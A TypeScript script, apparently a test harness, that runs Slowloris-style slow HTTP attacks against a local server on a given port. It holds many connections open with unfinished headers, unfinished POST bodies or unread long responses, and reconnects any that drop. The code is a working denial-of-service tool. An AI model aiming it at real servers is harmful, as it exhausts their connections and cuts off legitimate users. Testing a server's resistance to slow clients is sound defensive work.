/**
 * Holds many connections and is slow on all of them: `node slow-attacker.ts <port> <connections>`. A third each never ends its
 * head, never ends its body, and asks for a long history that it does not read. A connection that is cut is opened
 * again. It prints `open` once all are connected, and goes on until it is killed.
 */
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";

const [port = 0, connections = 0] = process.argv.slice(2).map(Number);

type Slowness = "head" | "body" | "reader";
const kinds: readonly Slowness[] = ["head", "body", "reader"];
const begins: Record<Slowness, string> = {
  head: "GET /messages/long HTTP/1.1\r\nHost: localhost\r\n",
  body: "POST /messages/ HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{",
  reader: "GET /messages/long HTTP/1.1\r\nHost: localhost\r\n\r\n",
};
const drops: Record<Slowness, string> = { head: "X: y\r\n", body: " ", reader: "" };

let open = 0;

async function attack(kind: Slowness): Promise<void> {
  for (;;) {
    const socket = connect({ port, host: "127.0.0.1" });
    const closed = new Promise<void>((resolve) => socket.on("close", () => resolve()));
    socket.on("error", () => {});
    socket.on("connect", () => begin(socket, kind));
    if (kind === "reader") socket.pause();
    const dripping = setInterval(() => socket.write(drops[kind]), 2_000);
    await closed;
    clearInterval(dripping);
    await delay(200);
  }
}

function begin(socket: Socket, kind: Slowness): void {
  socket.write(begins[kind]);
  open++;
  if (open === connections) process.stdout.write("open\n");
}

for (let n = 0; n < connections; n++) {
  void attack(kinds[n % kinds.length] ?? "head");
  // No more at once than a server's queue of new connections takes.
  if (n % 50 === 49) await delay(20);
}
